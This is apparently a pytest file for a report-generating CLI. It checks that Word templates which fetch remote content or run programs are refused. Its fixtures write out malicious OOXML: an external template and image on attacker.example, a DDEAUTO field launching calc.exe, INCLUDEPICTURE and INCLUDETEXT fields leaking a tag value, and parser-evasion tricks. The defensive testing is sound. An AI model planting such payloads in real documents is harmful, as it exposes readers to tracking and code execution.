"""A Word template from the plan folder must not make a paper that reaches outside itself when it
is opened: an attached template or picture Word would fetch (telling a server who opened the paper,
or handing Word remote macros), or a field that runs a program or fetches a file (DDE,
INCLUDEPICTURE: filled by a tag, it could carry a restricted note to that server)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import FIXTURES, copy_plan
from vawg_cli.cli import app
from vawg_cli.plan import bundled

PAPER = ["report", "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "docx"]
SHIPPED = bundled.templates_dir() / "report.docx"
EXTERNAL = 'TargetMode="External"'


def _paragraph(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def _field(*instructions: str) -> str:
    """A complex field, its instruction split over runs as Word may split it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        document = parts["word/document.xml"].decode("utf-8")
        at = document.rindex("<w:sectPr")
        parts["word/document.xml"] = (document[:at] + xml + document[at:]).encode("utf-8")

    return change


def _in_footnote(xml: str) -> Callable[[dict[str, bytes]], None]:
    """A footnotes part under another prefix for Word's namespace (Word reads the namespace, not the prefix)."""

    def change(parts: dict[str, bytes]) -> None:
        main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        body = xml.replace("<w:", "<x:").replace("</w:", "</x:").replace(" w:", " x:")
        parts["word/footnotes.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><x:footnotes xmlns:x="{main}">'
            f'<x:footnote x:id="1">{body}</x:footnote></x:footnotes>'
        ).encode()

    return change


def _relationship(part: str, relationship: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        rels = parts.get(
            part,
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        )
        parts[part] = rels.replace(b"</Relationships>", relationship.encode("utf-8") + b"</Relationships>")

    return change


def _template(plan: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    with zipfile.ZipFile(SHIPPED) as shipped:
        parts = {name: shipped.read(name) for name in shipped.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    (plan / "templates").mkdir(exist_ok=True)
    (plan / "templates" / "report.docx").write_bytes(out.getvalue())


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    return copy_plan(FIXTURES / "board", tmp_path / "plan")


ATTACHED = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    f'attachedTemplate" Target="http://attacker.example/evil.dotm" {EXTERNAL}/>'
)
PICTURE = (
    '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    f'Target="https://attacker.example/p.png" {EXTERNAL}/>'
)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_relationship("word/_rels/settings.xml.rels", ATTACHED), "Word would fetch"),
        (_relationship("word/_rels/document.xml.rels", PICTURE), "Word would fetch"),
        # the mode spelt with a character reference, which an XML reader (and Word) decodes
        (
            _relationship("word/_rels/settings.xml.rels", ATTACHED.replace("External", "&#69;xternal")),
            "Word would fetch",
        ),
        (_in_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\calc.exe"/></w:p>'), "DDEAUTO field"),
        (_in_body(_field(" INCLUDE", 'PICTURE "https://attacker.example/{{ title }}" \\d ')), "INCLUDEPICTURE field"),
        (_in_body(_field(" dde ", "x")), "DDE field"),  # Word reads field names in any case
        (_in_body(_field(' LINK Excel.Sheet "c:\\\\book.xlsx" ')), "LINK field"),
        # ways round a reading of the XML's text that the review found, each read by Word as a field
        (_in_body(_field('&#73;NCLUDEPICTURE "https://attacker.example/x"')), "INCLUDEPICTURE field"),
        (_in_body(_field('INCLUDE<!-- -->PICTURE "https://attacker.example/x"')), "INCLUDEPICTURE field"),
        (_in_body(_field(' INCLUDE "https://attacker.example/x.docx" ')), "INCLUDE field"),
        (_in_footnote(_field("&#68;DEAUTO c:\\x")), "DDEAUTO field"),
        (_in_body('<w:altChunk r:id="rId96"/>'), "altChunk"),
        (
            _relationship(
                "word/_rels/document.xml.rels",
                '<Relationship Id="rId96" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/aFChunk" Target="chunk.htm"/>',
            ),
            "imports content from another file",
        ),
        # made by a tag inside the instruction: only the paper it makes shows it
        (_in_body(_field(' {{ "INCLUDETEXT" }} "https://attacker.example/{{ title }}" ')), "INCLUDETEXT field"),
    ],
)
def test_a_template_that_would_reach_outside_the_paper_is_refused(
    plan: Path, change: Callable[[dict[str, bytes]], None], said: str, tmp_path: Path
) -> None:
    _template(plan, change)
    out = tmp_path / "paper.docx"
    result = CliRunner().invoke(app, [*PAPER, "--plan", str(plan), "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert said in result.output and "must not fetch anything or run anything" in result.output
    assert not out.exists()


@pytest.mark.parametrize(
    "change",
    [
        _relationship(
            "word/_rels/document.xml.rels",
            '<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'hyperlink" Target="https://www.bexley.gov.uk/" {EXTERNAL}/>',
        ),
        _in_body(_field(" PAGE ")),
        _in_body(_field(" HYPERLINK ", '"https://www.bexley.gov.uk/"')),
        _in_body(_field(" REF linked ")),  # a word that only contains LINK is no LINK field
    ],
)
def test_what_a_paper_may_hold_still_makes_a_paper(
    plan: Path, change: Callable[[dict[str, bytes]], None], tmp_path: Path
) -> None:
    _template(plan, change)
    out = tmp_path / "paper.docx"
    result = CliRunner().invoke(app, [*PAPER, "--plan", str(plan), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert zipfile.is_zipfile(out)
